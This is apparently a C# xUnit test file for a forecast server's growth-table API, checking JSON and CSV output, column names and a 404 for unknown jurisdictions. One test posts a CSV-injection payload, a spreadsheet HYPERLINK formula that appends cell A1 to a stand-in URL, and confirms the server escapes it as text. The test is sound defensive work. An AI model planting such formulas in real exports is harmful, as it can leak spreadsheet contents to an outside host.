using System.Globalization;
using System.Net.Http.Json;
using System.Text.Json;
using CsvHelper;
using Forecast.Catalog.Tests;

namespace Forecast.Server.Tests;

[Collection(ServerCollection.Name)]
public sealed class GrowthEndpointTests(ServerFixture server)
{
    [Fact]
    public async Task The_growth_table_has_one_line_per_pair_in_scope()
    {
        var lines = await server.Http.GetFromJsonAsync<JsonElement>("/api/growth?jurisdiction=dandong");

        var pairs = ShippedCatalog.Catalog.Subtree("dandong").Sum(j => ShippedCatalog.Catalog.PairsOf(j.Id).Count());
        Assert.Equal(pairs, lines.GetArrayLength());
        Assert.All(lines.EnumerateArray(), l => Assert.False(string.IsNullOrEmpty(l.GetProperty("category").GetString())));
    }

    [Fact]
    public async Task The_growth_csv_parses_with_the_cli_s_columns_and_the_json_s_lines()
    {
        var response = await server.Http.GetAsync("/api/growth.csv?jurisdiction=zhenxing");
        var json = await server.Http.GetFromJsonAsync<JsonElement>("/api/growth?jurisdiction=zhenxing");

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.NotNull(response.Headers.ETag);
        using var reader = new StringReader(await response.Content.ReadAsStringAsync());
        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
        var rows = csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
        Assert.Equal(json.GetArrayLength(), rows.Count);
        Assert.Equal(
            ["jurisdiction", "indicator", "name_zh", "name_en", "unit", "kind", "direction", "target_year", "target_from_year", "target_comparator", "target_value", "target_clause", "target_evidence", "latest_year", "latest_value", "latest_basis", "latest_source", "history_from_year", "history_from_value", "history_from_basis", "historical_rate", "required_rate", "rate_unit", "ratio", "category", "explanation"],
            rows[0].Keys);
        Assert.All(rows, r => Assert.Equal("zhenxing", r["jurisdiction"]));
        var first = json.EnumerateArray().First();
        Assert.Equal(first.GetProperty("nameZh").GetString(), rows[0]["name_zh"]);
    }

    [Fact]
    public async Task An_unknown_jurisdiction_has_no_growth_table()
    {
        var response = await server.Http.GetAsync("/api/growth.csv?jurisdiction=atlantis");

        Assert.Equal(System.Net.HttpStatusCode.NotFound, response.StatusCode);
    }

    [Fact]
    public async Task An_observation_source_that_is_a_formula_is_served_in_the_growth_csv_as_text()
    {
        const string source = "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"大连市2024年统计公报\")";
        var body = JsonSerializer.Serialize(new { year = 2024, value = 88.5, source, recordedBy = "csv injection test" });
        var recorded = await server.Writer.PostAsync("/api/pairs/dalian/inclusive-kindergarten-coverage/observations", new StringContent(body, System.Text.Encoding.UTF8, "application/json"));
        Assert.Equal(System.Net.HttpStatusCode.Created, recorded.StatusCode);

        var text = await server.Http.GetStringAsync("/api/growth.csv?jurisdiction=dalian");

        using var csv = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        var row = csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().Single(r => (string)r["indicator"] == "inclusive-kindergarten-coverage");
        Assert.Equal("'" + source, row["latest_source"]);
    }
}
